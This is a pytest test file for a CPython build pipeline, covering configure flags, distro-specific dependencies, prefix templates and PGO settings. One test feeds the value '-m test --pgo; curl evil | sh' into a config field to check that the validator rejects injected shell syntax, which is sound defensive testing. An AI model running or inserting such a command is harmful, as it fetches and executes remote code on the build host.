import copy

import pytest

from tasks.build.flags import build_deps, configure_args
from tasks.model import config
from tasks.model.variant import DEFAULT, FREETHREADED
from tasks.model.versions import Version
from tasks.pipeline import overrides

COMMON = ["--enable-option-checking=fatal", "--enable-loadable-sqlite-extensions", "--with-system-expat",
          "--with-dtrace", "DFLAGS="]


def settings_for(config_data, **variables):
    return overrides.apply_overrides(config.parse(config_data), variables)


@pytest.mark.parametrize("fast, variant, expected_tail", [
    ("false", DEFAULT, ["--enable-optimizations", "--with-lto"]),
    ("false", FREETHREADED, ["--enable-optimizations", "--with-lto", "--disable-gil", "--with-ensurepip=no"]),
    ("true", DEFAULT, ["--disable-test-modules"]),
    ("true", FREETHREADED, ["--disable-test-modules", "--disable-gil", "--with-ensurepip=no"]),
])
def test_optimized_fast_default_freethreaded(config_data, fast, variant, expected_tail):
    settings = settings_for(config_data, FAST_BUILD=fast)
    trixie = settings.all_distros["trixie"]
    args = configure_args(settings, trixie, Version.parse("3.14.2"), variant)
    assert list(args) == COMMON + expected_tail + ["--prefix=/opt/python/python3.14"]


def test_distro_tweaks_bookworm(config_data):
    settings = settings_for(config_data)
    bookworm = settings.all_distros["bookworm"]
    args = configure_args(settings, bookworm, Version.parse("3.13.15"), DEFAULT)
    assert args[-2:] == ("--without-system-libmpdec", "--prefix=/opt/python/python3.13")
    assert "libmpdec-dev" not in build_deps(settings, bookworm)
    assert "libmpdec-dev" in build_deps(settings, settings.all_distros["trixie"])


def test_drop_configure_removes_a_flag_from_any_list(config_data):
    data = copy.deepcopy(config_data)
    data["distros"]["trixie"]["drop_configure"] = ["--with-dtrace", "--with-lto"]
    data["distros"]["trixie"]["add_build_deps"] = ["libb2-dev"]
    settings = settings_for(data)
    trixie = settings.all_distros["trixie"]
    args = configure_args(settings, trixie, Version.parse("3.13.15"), FREETHREADED)
    assert "--with-dtrace" not in args and "--with-lto" not in args and "--disable-gil" in args
    deps = build_deps(settings, trixie)
    assert "libb2-dev" in deps and deps.index("libb2-dev") > deps.index("libmpdec-dev")  # after the common list


def test_prefix_template(config_data):
    data = copy.deepcopy(config_data)
    data["package"]["prefix"] = "/usr/local/py/{major_minor}/x"
    settings = settings_for(data)
    args = configure_args(settings, settings.all_distros["trixie"], Version.parse("3.15.0rc1"), DEFAULT)
    assert args[-1] == "--prefix=/usr/local/py/3.15/x"


def test_required_build_deps_present(config_data):
    deps = build_deps(settings_for(config_data), settings_for(config_data).all_distros["trixie"])
    for package in ("libssl-dev", "tk-dev", "libexpat1-dev", "systemtap-sdt-dev", "libmpdec-dev",
                    "debhelper", "dpkg-dev", "ccache", "libzstd-dev", "uuid-dev"):
        assert package in deps


def test_profile_task_only_for_optimized_builds(config_data, root):
    from tasks.model.plan import Build, Layout
    for fast, expected in (("false", "-m test --pgo -j0"), ("true", "")):
        settings = settings_for(config_data, FAST_BUILD=fast, PYTHON_VERSION="3.13.15")
        build = Build(settings.versions[0], settings.distros[0], settings, Layout.for_root(root))
        assert build.profile_task == expected


def test_profile_task_rejects_shell_syntax(config_data):
    data = copy.deepcopy(config_data)
    data["flags"]["profile_task"] = "-m test --pgo; curl evil | sh"
    with pytest.raises(config.UserError, match="flags.profile_task"):
        settings_for(data)


def test_builtin_modules_reach_configure_as_environment(config_data, root, monkeypatch):
    from tasks.model.plan import Build, Layout
    from tasks.pipeline import actions
    from tasks.pipeline.actions import configure_step
    monkeypatch.setattr(actions.images, "built_tag", lambda layout, distro: "img")
    monkeypatch.setattr(Build, "source_date_epoch", lambda self: 0)  # read from the extracted sources
    none, some = copy.deepcopy(config_data), copy.deepcopy(config_data)
    none["flags"]["builtin_modules"] = []
    some["flags"]["builtin_modules"] = ["_json", "pyexpat"]
    for flags, expected in ((none, ""), (some, "_json pyexpat")):
        settings = settings_for(flags, PYTHON_VERSION="3.14.7", DISTRO="trixie")
        build = Build(settings.versions[0], settings.distros[0], settings, Layout.for_root(root))
        for variant in (DEFAULT, FREETHREADED):
            step = configure_step(build, variant)
            assert step.environment["PB_BUILTIN_MODULES"] == expected
            assert step.command[1].endswith("/configure.sh") and step.command[2:] == build.configure_args(variant)
